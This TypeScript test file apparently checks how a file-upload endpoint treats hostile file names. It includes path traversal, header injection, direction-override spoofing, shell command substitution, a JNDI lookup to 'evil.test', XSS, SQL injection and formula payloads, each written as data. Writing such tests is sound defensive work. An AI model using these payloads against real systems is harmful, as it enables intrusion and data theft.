import { type Attack, good, granted, type Outcome, presign, refused } from "./attack.ts";

const noName = refused(400, "INVALID_FILE_NAME");

/** Accepted, and saved under this name. */
const saved = (name: string) => granted({ name });

/** Accepted, and saved under the name as it came. */
const asItIs = Symbol("as it is");

const TABLE: ReadonlyArray<readonly [input: string, name: string, outcome: Outcome | symbol]> = [
  ["a way out of the folder", "../../etc/passwd", saved(".._.._etc_passwd")],
  ["the same on Windows", "..\\..\\boot.ini", saved(".._.._boot.ini")],
  ["the same in a URL's code", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", asItIs],
  ["the same, coded twice", "%252e%252e%252fetc%252fpasswd", asItIs],
  ["the same in overlong UTF-8", "%c0%ae%c0%ae%c0%afetc", asItIs],
  ["the same in full-width letters", "\uff0e\uff0e\uff0fetc\uff0fpasswd", asItIs],
  ["a division slash for a slash", "..\u2215..\u2215a.png", asItIs],
  ["the folder itself", ".", asItIs],
  ["the folder above", "..", asItIs],
  ["an absolute path", "/etc/passwd", saved("_etc_passwd")],
  ["a drive", "C:\\windows\\a.png", saved("C:_windows_a.png")],
  ["a share", "\\\\evil.test\\share\\a.png", saved("__evil.test_share_a.png")],
  ["slashes alone", "////", saved("____")],
  [
    "another organization's key",
    "orgs/globex/files/2026/11/a.png",
    saved("orgs_globex_files_2026_11_a.png"),
  ],
  ["NUL before a second ending", "a.php\u0000.png", noName],
  ["a header behind a line end", "a.png\r\nSet-Cookie: a=b", noName],
  ["a bare line feed", "a\n.png", noName],
  ["a tab", "a\t.png", noName],
  ["the escape character of terminals", "\u001b[2Ja.png", noName],
  ["a line end of Unicode", "a\u2028.png", noName],
  ["the next-line character", "a\u0085.png", noName],
  ["a quote that ends the name early", 'a.png"; filename="evil.exe', asItIs],
  [
    "a backslash that would escape the quote",
    "a\\\"; filename*=UTF-8''evil.exe",
    saved("a_\"; filename*=UTF-8''evil.exe"),
  ],
  ["a second parameter", "a.png; filename*=UTF-8''evil.exe", asItIs],
  ["the characters of extended values", "a'(*)%.png", asItIs],
  ["a name that turns around (gnp.exe)", "exe.\u202egnp", noName],
  ["one that turns around in isolation", "a\u2067gnp.exe\u2069", noName],
  ["a mark that only hints at a direction", "a\u200f.png", asItIs],
  ["a letter of no width in the ending", "a.p\u200bng", asItIs],
  ["half of a pair of surrogates", "a\ud83d.png", noName],
  ["the other half", "a\ude00.png", noName],
  ["halves in the wrong order", "\ude00\ud83d.png", noName],
  ["the replacement character, which is a good one", "a\ufffd.png", asItIs],
  ["10,000 characters", `${"a".repeat(10_000)}.png`, noName],
  ["255 emoji, 1,020 bytes", "\u{1f600}".repeat(255), noName],
  ["a byte too many", `${"a".repeat(252)}.png`, noName],
  ["as many bytes as there may be", `${"a".repeat(251)}.png`, asItIs],
  ["62 emoji, which fit", `${"\u{1f600}".repeat(62)}.png`, asItIs],
  ["200 marks on one letter", `a${"\u0301".repeat(100)}.png`, asItIs],
  ["nothing", "", noName],
  ["two endings, the bad one last", "a.png.exe", asItIs],
  ["two endings, the bad one first", "shell.php.png", asItIs],
  ["an ending that is not the type's", "a.html", asItIs],
  ["an ending in capitals", "a.PNG", asItIs],
  ["an ending without an end", `a.${"x".repeat(200)}`, asItIs],
  ["a dot at the end, which Windows drops", "a.exe.", asItIs],
  ["a space at the end, which Windows drops", "a.exe ", asItIs],
  ["a second stream of a file", "a.png::$DATA", asItIs],
  ["settings of a web server", ".htaccess", asItIs],
  ["a device", "CON", asItIs],
  ["a device with an ending", "NUL.png", asItIs],
  ["a home folder", "~root", asItIs],
  ["an option of a command", "-rf", asItIs],
  ["a command", "$(touch evil).png", asItIs],
  ["a command in the older way", "`touch evil`.png", asItIs],
  [
    "a look-up of a careless log",
    "${jndi:ldap://evil.test/a}",
    saved("${jndi:ldap:__evil.test_a}"),
  ],
  ["markup", "<img src=x onerror=alert(1)>.png", asItIs],
  ["a statement", "'; DROP TABLE files; --", asItIs],
  ["a formula", "=HYPERLINK(1).png", asItIs],
  ["a URL", "https://evil.test/a.png", saved("https:__evil.test_a.png")],
  ["a name that objects are born with", "__proto__", asItIs],
  ["another such name as the ending", "a.constructor", asItIs],
];

export const fileNames: ReadonlyArray<Attack> = [
  ...TABLE.map(([input, filename, outcome]): Attack => ({
    input,
    to: "dev",
    request: ({ dev }) => presign(dev, { ...good, filename }),
    outcome: typeof outcome === "symbol" ? saved(filename) : outcome,
  })),
  {
    input: "a page that is said to be plain text",
    to: "dev",
    request: ({ dev }) => presign(dev, { ...good, filename: "a.html", content_type: "text/plain" }),
    outcome: granted({ extension: "txt", type: "text/plain", name: "a.html" }),
  },
  {
    input: "a list",
    to: "dev",
    request: ({ dev }) => presign(dev, { ...good, filename: ["a.png"] }),
    outcome: noName,
  },
];
